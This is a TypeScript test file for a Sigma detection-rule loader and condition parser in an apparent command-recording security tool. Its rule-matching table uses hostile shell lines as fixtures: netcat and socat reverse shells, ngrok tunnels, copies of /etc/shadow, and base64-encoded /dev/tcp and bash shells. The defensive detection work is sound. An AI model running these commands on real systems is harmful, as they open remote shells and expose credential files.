import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { Catalogue, readCatalogue } from '../../../../src/analysis/rules/catalogue.ts'
import { parseCondition } from '../../../../src/analysis/rules/sigma/condition.ts'
import { readSigmaFolder } from '../../../../src/analysis/rules/sigma/folder.ts'

const samples = readSigmaFolder(join(import.meta.dirname, 'samples'))
const catalogue = new Catalogue({ rules: [], sigma: samples.rules })
const idOf = (number: number): string =>
  `sigma-0a6b1f0e-6a53-4c0a-9c55-6b1a2f0c00${String(number).padStart(2, '0')}`
const idsOf = (line: string): string[] => catalogue.ofLine(line).map(({ id }) => id)

describe('a rule is refused with file, field and reason', () => {
  test.each([
    ['parent.yml', 'detection', 'it needs ParentImage: which program started another is not in a recording'],
    ['parent-filter.yml', 'detection', 'it needs ParentImage'],
    ['windows.yml', 'logsource.product', 'it is about windows'],
    [
      'backtracking.yml',
      'detection.selection',
      String.raw`CommandLine|re: an expression that is wrong, or not of the class of RE2: \1`,
    ],
    ['aggregation.yml', 'detection.condition', 'aggregation'],
    ['twice.yml', 'id', 'there is another rule'],
    ['no-yaml.yml', 'the file', 'unique'],
    ['correlation.yml', 'correlation', 'not taken'],
    ['unknown-modifier.yml', 'detection.selection', '"expand" is not known'],
    ['no-search.yml', 'level', 'nvalid option'],
  ])('%s: %s', (file, field, reason) => {
    const problem = samples.refused.find(each => each.file === file)
    expect(problem?.field).toBe(field)
    expect(problem?.reason).toContain(reason)
  })

  test('and none of those that can be used', () => {
    expect(new Set(samples.refused.map(({ file }) => file)).size).toBe(10)
    expect(samples.rules.length).toBe(5)
  })
})

test('a rule that does without one of its ways says so', () => {
  expect(samples.notes).toEqual([
    {
      file: 'list-of-maps.yml',
      field: 'detection',
      reason: 'an alternative is left out: it needs OriginalFileName: it stands in programs of Windows only',
    },
  ])
})

describe('a line meets a rule', () => {
  test.each([
    [1, 'nc -e /bin/sh 203.0.113.5 99', true],
    [1, 'sudo /usr/bin/ncat --exec sh host 99', true],
    [1, "sh -c 'NC=1 nc -e sh host 9'", true],
    [1, 'nc -l -e sh 127.0.0.1 99', false],
    [1, 'sync -e x', false],
    [2, './ngrok tcp 22', true],
    [2, 'socat TCP-LISTEN:1,fork TCP:a:2', true],
    [2, 'socat - TCP:a:2', false],
    [3, 'sudo cp /etc/shadow /tmp/x', true],
    [3, 'dd  if=/etc/gshadow of=/tmp/x', true],
    [3, 'cp /etc/hosts /tmp', false],
    [4, `echo ${Buffer.from('xexec 5<>/dev/tcp/a/1').toString('base64')}`, true],
    [4, `echo ${Buffer.from('bash -i >x', 'utf16le').toString('base64')}`, true],
    [4, 'ssh ada@203.0.113.77', true],
    [4, 'ssh ada@203.0.114.77', false],
    [4, 'pwsh –enc abc', true],
    [4, 'echo axyz', false],
    [4, 'echo aXyZ', true],
    [4, "echo '*?'", true],
    [4, 'echo ab', false],
    [10, '/opt/first', true],
    [10, 'second', false],
  ])('%i %s: %s', (number, line, expected) => {
    expect(idsOf(line).includes(idOf(number))).toBe(expected)
  })
})

test('level, tags and words become ours', () => {
  expect(catalogue.about(idOf(1))).toMatchObject({
    title: 'Noteworthy Netcat With A Program',
    severity: 'high',
    techniques: ['T1059.004', 'T1571'],
    says: 'Netcat was told to run a program for whoever connects.',
    check: ['Tests of a firewall'],
  })
  expect(catalogue.ofLine('nc -e sh a 1')).toEqual([
    { id: idOf(1), severity: 'high', technique: ['T1059.004', 'T1571'] },
  ])
})

test('rules of others stand beside ours', () => {
  const both = readCatalogue(undefined, samples.rules)
  const ids = both.ofLine('nc -e /bin/sh 203.0.113.5 99').map(({ id }) => id)
  expect(ids).toEqual(expect.arrayContaining(['SSH-10', idOf(1)]))
})

describe('a condition', () => {
  const names = ['a', 'b1', 'b2', '_c']
  const evaluate = (text: string, met: readonly string[]): boolean => {
    const of = (condition: ReturnType<typeof parseCondition>): boolean =>
      condition.kind === 'search'
        ? met.includes(condition.name)
        : condition.kind === 'not'
          ? !of(condition.of)
          : condition.kind === 'and'
            ? condition.of.every(of)
            : condition.of.some(of)
    return of(parseCondition(text, names))
  }

  test.each([
    ['a or b1 and b2', ['a'], true],
    ['(a or b1) and b2', ['a'], false],
    ['not a and b1', ['b1'], true],
    ['not (a and b1)', ['a', 'b1'], false],
    ['1 of b*', ['b2'], true],
    ['all of b*', ['b2'], false],
    ['any of them', ['_c'], false],
    ['all of them', ['a', 'b1', 'b2'], true],
    ['NOT not a AND 1 OF B1', [], undefined],
  ])('%s with %j: %s', (text, met, expected) => {
    if (expected === undefined) expect(() => evaluate(text, met)).toThrow('names no search')
    else expect(evaluate(text, met)).toBe(expected)
  })

  test.each([
    '',
    'a and',
    '(a',
    'a b1',
    'a)',
    '2 of b*',
    '1 of x*',
    'not',
    'a | count() > 1',
    '('.repeat(200),
  ])('is refused: %s', text => {
    expect(() => parseCondition(text, names)).toThrow(RangeError)
  })
})

test('a folder that is not there is told', () => {
  expect(() => readSigmaFolder(join(import.meta.dirname, 'nowhere'))).toThrow('cannot be read')
})
